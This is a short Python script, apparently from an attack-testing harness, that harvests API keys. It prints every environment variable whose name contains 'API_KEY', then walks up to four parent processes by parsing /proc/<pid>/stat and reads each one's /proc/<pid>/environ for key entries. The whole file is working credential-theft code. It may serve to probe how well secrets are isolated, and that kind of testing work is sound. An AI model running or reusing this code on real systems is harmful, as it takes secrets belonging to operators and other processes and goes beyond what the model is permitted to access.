"""Looks for the server's API keys in its own environment and in that of the processes above it."""

import os

from attack import attempt


def environment_of(process):
    with open(f"/proc/{process}/environ") as file:
        return [entry for entry in file.read().split("\0") if "API_KEY" in entry]


print([f"{name}={value}" for name, value in os.environ.items() if "API_KEY" in name])
parent = os.getppid()
for _ in range(4):
    attempt(f"keys of process {parent}", lambda parent=parent: environment_of(parent) or False)
    try:
        with open(f"/proc/{parent}/stat") as file:
            parent = int(file.read().rpartition(")")[2].split()[1])
    except OSError:
        break
